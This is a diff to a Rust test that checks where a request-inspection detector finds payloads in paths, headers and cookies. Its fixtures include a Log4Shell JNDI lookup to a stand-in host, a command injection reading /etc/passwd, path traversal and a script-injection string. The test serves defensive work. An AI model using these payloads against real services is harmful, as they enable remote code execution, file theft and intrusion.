@@ -34,6 +34,11 @@ fn a_payload_is_found_wherever_it_is() {
     assert_eq!(points(&RequestView { path: b"/a/;cat%20%2fetc%2fpasswd/b", ..EMPTY }), ["path", "path.1"]);
     assert_eq!(with_headers(&[(b"X-Api", b"${jndi:ldap://x.example}")]), ["header.x-api"]);
     assert_eq!(with_headers(&[(b"Cookie", b"a=1; sid=../../../etc/passwd")]), ["cookie.sid"]);
+    let jndi = b"${jndi:ldap://x.example/a} y";
+    for name in ["authorization", "proxy-authorization"] {
+        let request = RequestView { headers: &[(name.as_bytes(), jndi)], ..EMPTY };
+        assert_eq!(points(&request), [format!("header.{name}")]);
+    }
     assert_eq!(
         with_headers(&[(b"Referer", b"http://x.example/?q=%3Cscript%3Ealert(1)%3C/script%3E")]),
         ["header.referer.query.q"]
